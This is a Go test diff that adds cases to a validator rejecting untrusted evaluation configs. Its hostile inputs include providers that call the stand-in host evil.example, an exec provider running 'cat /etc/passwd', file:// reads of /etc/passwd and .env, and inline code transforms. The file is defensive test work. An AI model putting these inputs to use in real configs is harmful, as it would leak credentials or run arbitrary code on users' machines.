@@ -84,6 +84,9 @@ func TestUntrusted(t *testing.T) {
 		"webhook provider":    {"prompts: [p]\nproviders: ['webhook:http://evil.example']", "", "2:13: evil.example"},
 		"file of providers":   {"prompts: [p]\nproviders: ['file://p.yaml']", "p.yaml=- id: openai:m\n  config: {apiBaseUrl: 'http://evil.example'}", "p.yaml:2:24: evil.example"},
 
+		"raw request":         {"prompts: [p]\nproviders: [{id: http, config: {request: \"POST / HTTP/1.1\\nHost: evil.example\\n\\nhi\"}}]", "", "2:42: evil.example"},
+		"target of a request": {"prompts: [p]\nproviders: [{id: http, config: {request: 'GET http://evil.example/ HTTP/1.1'}}]", "", "2:42: evil.example"},
+
 		"exec":                  {"prompts: [p]\nproviders: ['exec:cat /etc/passwd']", "", "2:13: is code"},
 		"exec by label":         {"prompts: [p]\nproviders: [{id: 'exec:id', label: x}]", "", "2:18: is code"},
 		"exec as a key":         {"prompts: [p]\nproviders: [{'exec:id': {label: x}}]", "", "2:25: is code"},
@@ -112,6 +115,9 @@ func TestUntrusted(t *testing.T) {
 		"transform of vars":     {head + "defaultTest: {options: {transformVars: vars}}", "", "3:40: is code"},
 		"transform of provider": {"prompts: [p]\nproviders: [{id: echo, transform: output}]", "", "2:35: is code"},
 		"script in a provider":  {"prompts: [p]\nproviders: [{id: http, config: {transformResponse: 'file://t.js'}}]", "", "2:52: is code"},
+		"response":              {"prompts: [p]\nproviders: [{id: http, config: {transformResponse: json.x}}]", "", "2:52: is code"},
+		"status":                {"prompts: [p]\nproviders: [{id: http, config: {validateStatus: status < 500}}]", "", "2:49: is code"},
+		"request":               {"prompts: [p]\nproviders: [{id: http, config: {transformRequest: '(p) => `{{}}`'}}]", "", "2:51: is code"},
 		"scoring":               {head + "tests: [{vars: {}, assertScoringFunction: 'file://s.js'}]", "s.js=", "3:43: is code"},
 		"filter":                {head + "nunjucksFilters: {f: f.js}", "f.js=", "3:22: is code"},
 		"metric":                {head + "derivedMetrics: [{name: m, value: 'file://m.js'}]", "m.js=", "3:35: is code"},
@@ -142,6 +148,11 @@ func TestUntrusted(t *testing.T) {
 		"scenarios":            {head + "scenarios: ['file://../x.yaml']", "", "3:13: outside"},
 		"report as a filter":   {head + "commandLineOptions: {filterFailing: /etc/passwd}", "", "3:37: outside"},
 		"recorded outputs":     {head + "commandLineOptions: {modelOutputs: /etc/passwd}", "", "3:36: untrusted"},
+		"value":                {head + "tests: [{assert: [{type: contains, value: 'file://../x.txt'}]}]", "", "3:43: outside"},
+		"schema":               {head + "tests: [{assert: [{type: is-json, value: 'file:///etc/passwd'}]}]", "", "3:42: outside"},
+		"tools":                {"prompts: [p]\nproviders: [{id: openai:m, config: {tools: ['file://.env']}}]", ".env=x", "2:45: hidden"},
+		"recording":            {"prompts: [p]\nproviders: ['recorded:../x.jsonl']", "", "2:13: outside"},
+		"rubric above":         {head + "defaultTest: {options: {rubricPrompt: ['file://../x.txt']}}", "", "3:40: outside"},
 		"file in a chat":       {"prompts: ['file://p.json']\nproviders: [echo]", `p.json=["file:///etc/passwd"]`, "p.json:1:2: outside"},
 	} {
 		t.Run(name, func(t *testing.T) {
